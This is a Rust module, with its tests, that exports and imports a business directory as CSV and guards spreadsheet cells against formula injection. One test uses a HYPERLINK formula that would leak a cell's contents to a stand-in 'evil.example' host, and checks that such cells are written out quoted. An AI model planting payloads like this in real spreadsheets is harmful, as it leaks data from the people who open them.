//! The directory as a CSV file. Written: every entry with every field, UTF-8 with a BOM (so
//! Excel reads it as UTF-8), comma or semicolon separated, multilingual fields as columns of
//! their own and lists inside one cell, no cell a spreadsheet would run. Read: a file from a
//! spreadsheet, each row as an [`EntryForm`] read by the entry's [`Rules`], into a plan (how
//! many rows are new, updated and unchanged, and every problem with its line, column and
//! reason), which the store writes, when it has no problem, in one transaction.

use crate::entries::entry::{Entry, FIELDS, Refused, Rules, term_of};
use crate::entries::{EntryForm, ImportProblem};
use crate::error::Problem;
use crate::platform::csv::Row;
use crate::shared::text::guard_cell;
use std::collections::{HashMap, HashSet};

/// The columns of a file, in order: the slug, then the entry's fields.
pub fn columns() -> impl Iterator<Item = &'static str> {
    std::iter::once("slug").chain(FIELDS)
}

/// Columns a file must have; the others may be left out (and are then emptied).
const REQUIRED: [&str; 4] = ["name", "kind", "municipality", "sectors"];

pub use crate::platform::csv::Separator;

/// `entries` as a file, cells that start like a formula quoted (`shared::text::guard_cell`).
pub fn write<'a>(
    entries: impl IntoIterator<Item = &'a Entry>,
    separator: Separator,
) -> Result<Vec<u8>, csv::Error> {
    let mut out = csv::WriterBuilder::new()
        .delimiter(separator.byte())
        .terminator(csv::Terminator::CRLF)
        .from_writer("\u{feff}".as_bytes().to_vec());
    out.write_record(columns())?;
    for entry in entries {
        let cells = std::iter::once(entry.slug.clone()).chain(entry.fields());
        out.write_record(cells.map(|cell| guard_cell(&cell)))?;
    }
    out.into_inner().map_err(|e| e.into_error().into())
}

/// What an import would do. Rows are matched to entries by registry code, else by the slug of
/// a file exported here, else by name in the same municipality.
#[derive(Clone, Debug, Default)]
pub struct ImportPlan {
    /// New entries, each with the slug its row asked for (maybe none or taken).
    pub new: Vec<Entry>,
    /// The stored entry's id with the file's version.
    pub updated: Vec<(i64, Entry)>,
    pub unchanged: usize,
    pub problems: Vec<ImportProblem>,
}

/// Reads `file` against the `stored` entries (with their ids) and works out what importing it
/// would do.
pub fn plan(file: &[u8], rules: &Rules, stored: &[(i64, Entry)]) -> ImportPlan {
    let mut plan = ImportPlan::default();
    let known: Vec<&str> = columns().collect();
    let rows = match crate::platform::csv::read(file, &known, &REQUIRED) {
        Ok(rows) => rows,
        Err(problems) => {
            plan.problems = problems;
            return plan;
        }
    };

    let by_code: HashMap<&str, &(i64, Entry)> = stored
        .iter()
        .filter_map(|stored| Some((stored.1.registry_code.as_deref()?, stored)))
        .collect();
    let by_slug: HashMap<&str, &(i64, Entry)> = stored
        .iter()
        .map(|stored| (stored.1.slug.as_str(), stored))
        .collect();
    let by_name: HashMap<(String, &str), &(i64, Entry)> = stored
        .iter()
        .map(|stored| {
            (
                (stored.1.name.to_lowercase(), stored.1.municipality.as_str()),
                stored,
            )
        })
        .collect();
    let mut seen: HashSet<String> = HashSet::new();
    let mut matched_ids: HashSet<i64> = HashSet::new();
    for row in rows {
        let row = match row {
            Ok(row) => row,
            Err(problem) => {
                plan.problems.push(problem);
                continue;
            }
        };
        let line = row.line;
        let (form, file_only) = form_of(&row, rules);
        let (mut entry, refused) = rules.read(&form);
        entry.slug = row.cell("slug").to_owned();
        let mut problems: Vec<ImportProblem> = refused
            .into_iter()
            .map(|refused| problem_of(line, refused))
            .chain(file_only)
            .collect();
        // What identifies the row, in the order rows are matched to entries: the registry
        // code, the slug of a file exported here, else the name in its municipality.
        let name_key = (entry.name.to_lowercase(), entry.municipality.clone());
        let identity = match (&entry.registry_code, entry.slug.as_str()) {
            (Some(code), _) => format!("code {code}"),
            (None, "") => format!("name {} in {}", name_key.0, name_key.1),
            (None, slug) => format!("slug {slug}"),
        };
        if !seen.insert(identity) {
            problems.push(crate::platform::csv::whole_line(
                line,
                Problem::DuplicateInFile,
                entry.name.clone(),
            ));
        }
        if !problems.is_empty() {
            plan.problems.extend(problems);
            continue;
        }
        let matched = entry
            .registry_code
            .as_deref()
            .and_then(|code| by_code.get(code))
            .or_else(|| by_slug.get(entry.slug.as_str()))
            .or_else(|| by_name.get(&(name_key.0, entry.municipality.as_str())));
        match matched {
            // Two rows that name one stored entry in different ways (its code, its slug).
            Some((id, _)) if !matched_ids.insert(*id) => {
                plan.problems.push(crate::platform::csv::whole_line(
                    line,
                    Problem::DuplicateInFile,
                    entry.name.clone(),
                ));
            }
            Some((id, stored)) => {
                entry.slug = stored.slug.clone();
                if entry.fields() == stored.fields() {
                    plan.unchanged += 1;
                } else {
                    plan.updated.push((*id, entry));
                }
            }
            None => plan.new.push(entry),
        }
    }
    plan
}

/// A refused field as a problem of the file: its column is the field's, but for the other
/// languages, which the file keeps with the rest in `languages`.
fn problem_of(line: u64, refused: Refused) -> ImportProblem {
    let column = match refused.field {
        "other_languages" => "languages",
        field => field,
    };
    ImportProblem {
        line,
        column: column.to_owned(),
        problem: refused.problem,
        value: refused.value,
    }
}

/// The row as the form it stands for, with the problems only a file has (a yes or no that is
/// neither).
fn form_of(row: &Row, rules: &Rules) -> (EntryForm, Vec<ImportProblem>) {
    let mut problems = Vec::new();
    let member = row.yes_no("member", false, &mut problems);
    let published = row.yes_no("published", true, &mut problems);
    let sectors = sector_items(row.cell("sectors"), rules);
    let languages: Vec<String> = row
        .cell("languages")
        .split([',', ';', '\n'])
        .map(|code| code.trim().to_lowercase())
        .filter(|code| !code.is_empty())
        .collect();
    let speaks = |code: &str| languages.iter().any(|l| l == code);
    let text = |column: &str| row.cell(column).to_owned();
    let form = EntryForm {
        name: text("name"),
        kind: text("kind"),
        municipality: text("municipality"),
        sectors,
        speaks_et: speaks("et"),
        speaks_ru: speaks("ru"),
        speaks_en: speaks("en"),
        other_languages: languages
            .iter()
            .filter(|l| !["et", "ru", "en"].contains(&l.as_str()))
            .cloned()
            .collect::<Vec<_>>()
            .join(", "),
        description_et: text("description_et"),
        description_ru: text("description_ru"),
        description_en: text("description_en"),
        services_et: text("services_et"),
        services_ru: text("services_ru"),
        services_en: text("services_en"),
        website: text("website"),
        email: text("email"),
        phone: text("phone"),
        registry_code: text("registry_code"),
        founded_year: text("founded_year"),
        size: text("size"),
        member,
        published,
        links: text("links"),
    };
    (form, problems)
}

/// The sectors of a cell: separated by `;`, lines or commas, which some labels also contain
/// ("Film, video, tele ja raadio"), so that commas separate only where the parts on either side
/// are not one label.
fn sector_items(cell: &str, rules: &Rules) -> Vec<String> {
    /// The most commas a label is looked for across.
    const LONGEST: usize = 4;
    let mut items = Vec::new();
    for part in cell.split([';', '\n']) {
        let pieces: Vec<&str> = part.split(',').collect();
        let mut start = 0;
        while start < pieces.len() {
            let end = (start + 1..=pieces.len().min(start + LONGEST))
                .rev()
                .find(|end| {
                    let joined = pieces[start..*end].join(",");
                    term_of(&rules.vocabulary.sectors, &joined).is_some()
                })
                .unwrap_or(start + 1);
            let item = pieces[start..end].join(",").trim().to_owned();
            if !item.is_empty() {
                items.push(item);
            }
            start = end;
        }
    }
    items
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::i18n::Lang;
    use crate::platform::db::test_pool;
    use crate::platform::vocabulary::Vocabulary;
    use crate::shared::Localized;

    const HEADER: &str =
        "name;kind;municipality;sectors;languages;description_et;registry_code;phone;member";

    /// The real vocabulary, as the migrations fill it.
    async fn vocabulary() -> Vocabulary {
        Vocabulary::load(&test_pool().await).await.unwrap()
    }

    fn stored() -> Vec<(i64, Entry)> {
        let studio = Entry {
            slug: "helistuudio".into(),
            name: "Jõhvi Helistuudio".into(),
            kind: "company".into(),
            municipality: "johvi".into(),
            sectors: vec!["design".into()],
            languages: vec!["et".into()],
            description: Localized::new(Some("Salvestusstuudio".into()), None, None),
            registry_code: Some("10060701".into()),
            links: vec!["https://instagram.example/helistuudio".into()],
            is_published: true,
            ..Entry::default()
        };
        let potter = Entry {
            slug: "toila-keraamika".into(),
            name: "Toila Keraamika".into(),
            kind: "company".into(),
            municipality: "toila".into(),
            sectors: vec!["design".into(), "heritage-crafts".into()],
            languages: vec!["et".into(), "ru".into()],
            description: Localized::new(
                None,
                Some("Керамика, \"ручная\"; работа\nи курсы".into()),
                None,
            ),
            is_published: true,
            ..Entry::default()
        };
        vec![(1, studio), (2, potter)]
    }

    fn planned(file: &str, vocabulary: &Vocabulary, stored: &[(i64, Entry)]) -> ImportPlan {
        let rules = Rules {
            vocabulary,
            this_year: 2026,
        };
        plan(file.as_bytes(), &rules, stored)
    }

    fn problems(plan: &ImportPlan) -> Vec<(u64, &str, Problem, &str)> {
        plan.problems
            .iter()
            .map(|p| (p.line, p.column.as_str(), p.problem, p.value.as_str()))
            .collect()
    }

    fn counts(plan: &ImportPlan) -> (usize, usize, usize) {
        (plan.new.len(), plan.updated.len(), plan.unchanged)
    }

    #[tokio::test]
    async fn a_written_file_read_again_changes_nothing_with_either_separator() {
        let vocabulary = vocabulary().await;
        let stored = stored();
        for separator in [Separator::Semicolon, Separator::Comma] {
            let file = write(stored.iter().map(|(_, e)| e), separator).unwrap();
            assert!(file.starts_with("\u{feff}".as_bytes()), "a BOM for Excel");
            let text = String::from_utf8(file).unwrap();
            assert!(text.contains("\r\n"), "Windows line ends");
            let found = planned(&text, &vocabulary, &stored);
            assert_eq!(problems(&found), vec![]);
            assert_eq!(counts(&found), (0, 0, 2));
        }
    }

    #[tokio::test]
    async fn cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_unchanged() {
        let vocabulary = vocabulary().await;
        let mut stored = stored();
        stored.push((
            3,
            Entry {
                slug: "valem".into(),
                name: r#"=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.into(),
                description: Localized::new(
                    Some("'=already a quote".into()),
                    Some("-1+1".into()),
                    Some("@SUM(1)".into()),
                ),
                phone: Some("+372 5555 4321".into()),
                ..stored[0].1.clone()
            },
        ));
        stored[2].1.registry_code = None;
        let file = write(stored.iter().map(|(_, e)| e), Separator::Semicolon).unwrap();
        let text = String::from_utf8(file).unwrap();
        let mut reader = ::csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let cells: Vec<String> = reader
            .records()
            .map(|r| r.unwrap())
            .find(|r| r.iter().any(|cell| cell.contains("HYPERLINK")))
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell Excel would run: {cell}"
            );
        }
        assert!(
            cells.contains(&r#"'=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.to_owned())
        );
        assert!(cells.contains(&"'+372 5555 4321".to_owned()));
        assert!(cells.contains(&"''=already a quote".to_owned()));
        let found = planned(&text, &vocabulary, &stored);
        assert_eq!(problems(&found), vec![]);
        assert_eq!(counts(&found), (0, 0, 3), "the round trip changes nothing");
    }

    #[tokio::test]
    async fn a_messy_file_is_read_and_a_bad_registry_code_is_told_by_line_and_column() {
        let vocabulary = vocabulary().await;
        let mut file = format!("\u{feff}{HEADER}\r\n");
        // Line 2: a quoted description over two lines, with the separator and quotes inside, and
        // a sector label with a comma in it.
        file.push_str(
            "\"Narva Valguskoda OÜ\";company;Narva;Film, video, tele ja raadio, design;et, RU;\"Valgus; \"\"video\"\"\r\nja droonid\";10421629;+372 5550 0100;jah\r\n",
        );
        file.push_str("\r\n"); // line 4: empty
        for n in 5..=60 {
            let code = if n == 57 { "12345670" } else { "" };
            file.push_str(&format!(
                "Stuudio {n};freelancer;Sillamäe linn;Disain;et;Kirjeldus {n};{code};;ei\r\n"
            ));
        }
        let found = planned(&file, &vocabulary, &stored());
        assert_eq!(
            problems(&found),
            vec![(57, "registry_code", Problem::NotARegistryCode, "12345670")]
        );
        assert_eq!(found.new.len(), 56);
        let narva = found
            .new
            .iter()
            .find(|e| e.name == "Narva Valguskoda OÜ")
            .unwrap();
        // Windows line ends inside the cell are stored as plain line breaks.
        assert_eq!(
            narva.description.get(Lang::Et),
            Some("Valgus; \"video\"\nja droonid")
        );
        assert_eq!(narva.municipality, "narva");
        assert_eq!(narva.sectors, ["film", "design"], "in the sectors' order");
        assert_eq!(narva.languages, ["et", "ru"]);
        assert!(narva.is_member && narva.is_published);
        let stuudio = found.new.iter().find(|e| e.name == "Stuudio 5").unwrap();
        assert_eq!(
            (stuudio.municipality.as_str(), stuudio.sectors.as_slice()),
            ("sillamae", ["design".to_owned()].as_slice())
        );
    }

    #[tokio::test]
    async fn unknown_values_and_columns_are_reported_not_dropped() {
        let vocabulary = vocabulary().await;
        let file = format!(
            "{HEADER}\nA;company;Atlantis;design, knitting;et, x y;Tekst;;;\nB;dragon;narva;;et;;;12;maybe\n"
        );
        let found = planned(&file, &vocabulary, &stored());
        assert_eq!(
            problems(&found),
            vec![
                (2, "municipality", Problem::UnknownMunicipality, "Atlantis"),
                (2, "sectors", Problem::UnknownSector, "knitting"),
                (2, "languages", Problem::UnknownLanguage, "x y"),
                (3, "kind", Problem::UnknownChoice, "dragon"),
                (3, "sectors", Problem::Required, ""),
                (3, "description_et", Problem::DescriptionInOneLanguage, ""),
                (3, "phone", Problem::NotAPhone, "12"),
                (3, "member", Problem::NotYesOrNo, "maybe"),
            ]
        );
        let languages = vec!["uk"; 31].join(", ");
        let long = planned(
            &format!("{HEADER}\nA;company;narva;design;{languages};Tekst;;;\n"),
            &vocabulary,
            &[],
        );
        assert_eq!(
            problems(&long),
            vec![(2, "languages", Problem::TooLong, "")]
        );
        let bad_header = planned("name,kind,colour\nA,company,red\n", &vocabulary, &[]);
        assert_eq!(
            problems(&bad_header),
            vec![
                (1, "colour", Problem::UnknownColumn, "colour"),
                (1, "municipality", Problem::MissingColumn, ""),
                (1, "sectors", Problem::MissingColumn, ""),
            ]
        );
        let rules = Rules {
            vocabulary: &vocabulary,
            this_year: 2026,
        };
        let latin1 = plan(b"name;kind\nT\xf5nu;company\n", &rules, &[]);
        assert_eq!(problems(&latin1), vec![(2, "", Problem::NotUtf8, "")]);
    }

    #[tokio::test]
    async fn rows_match_by_registry_code_else_slug_else_name_and_municipality() {
        let vocabulary = vocabulary().await;
        let file = format!(
            "{HEADER}\n\
             Helistuudio OÜ;company;johvi;design;et;Salvestusstuudio;10060701;;\n\
             toila keraamika;company;toila;heritage-crafts, design;ru, et;Uus kirjeldus;;;\n\
             Uus Tegija;sole-trader;narva;design;et;Tekst;;;\n"
        );
        let found = planned(&file, &vocabulary, &stored());
        assert_eq!(problems(&found), vec![]);
        assert_eq!(counts(&found), (1, 2, 0));
        let updated: Vec<(i64, &str, &str)> = found
            .updated
            .iter()
            .map(|(id, e)| (*id, e.slug.as_str(), e.name.as_str()))
            .collect();
        assert_eq!(
            updated,
            [
                (1, "helistuudio", "Helistuudio OÜ"),
                (2, "toila-keraamika", "toila keraamika")
            ]
        );
        let by_slug = planned(
            "slug,name,kind,municipality,sectors,description_et\n\
             helistuudio,Jõhvi Helistuudio,company,narva,design,Teine tekst\n\
             helistuudio,Kaks,company,narva,design,Teine tekst\n",
            &vocabulary,
            &stored(),
        );
        assert_eq!(
            problems(&by_slug),
            vec![(3, "", Problem::DuplicateInFile, "Kaks")]
        );
        assert_eq!(by_slug.updated[0].0, 1, "matched by its slug");
        let two_ways = planned(
            "slug,name,kind,municipality,sectors,description_et,registry_code\n\
             ,Helistuudio OÜ,company,johvi,design,Tekst,10060701\n\
             helistuudio,Helistuudio,company,narva,design,Teine tekst,\n",
            &vocabulary,
            &stored(),
        );
        assert_eq!(
            problems(&two_ways),
            vec![(3, "", Problem::DuplicateInFile, "Helistuudio")],
            "its registry code and its slug name one entry"
        );
    }

    /// The real vocabulary, loaded once for the property tests (which are not async).
    fn loaded() -> &'static Vocabulary {
        static LOADED: std::sync::OnceLock<Vocabulary> = std::sync::OnceLock::new();
        LOADED.get_or_init(|| {
            tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap()
                .block_on(vocabulary())
        })
    }

    proptest::proptest! {
        /// Any rows under the header: every row is new, updated, unchanged or named in a
        /// problem by its line and a column the file has; never a panic.
        #[test]
        fn any_rows_are_planned_or_named_by_line_and_column(
            rows in proptest::collection::vec(
                proptest::collection::vec(
                    "\\PC{0,20}|design|film, design|narva|company|[0-9]{8}|[0-9]{4}|\\+372 [0-9]{7}",
                    9,
                ),
                0..20,
            ),
        ) {
            let rows: Vec<Vec<String>> = rows
                .iter()
                .map(|row| row.iter().map(|c| c.replace([';', '\n', '\r', '"'], " ")).collect())
                .collect();
            let mut file = HEADER.to_owned();
            for row in &rows {
                file.push('\n');
                file.push_str(&row.join(";"));
            }
            let stored = stored();
            let plan = planned(&file, loaded(), &stored);
            let columns: Vec<&str> = HEADER.split(';').collect();
            let last_line = rows.len() as u64 + 1;
            for problem in &plan.problems {
                proptest::prop_assert!((2..=last_line).contains(&problem.line), "{problem:?}");
                proptest::prop_assert!(
                    problem.column.is_empty() || columns.contains(&problem.column.as_str()),
                    "{problem:?}"
                );
            }
            let with_problems: std::collections::HashSet<u64> =
                plan.problems.iter().map(|p| p.line).collect();
            let blank = rows.iter().filter(|row| row.iter().all(|c| c.trim().is_empty())).count();
            if plan.problems.is_empty() {
                proptest::prop_assert_eq!(
                    plan.new.len() + plan.updated.len() + plan.unchanged + blank,
                    rows.len()
                );
            } else {
                proptest::prop_assert!(with_problems.len() <= rows.len());
            }
        }
    }
}
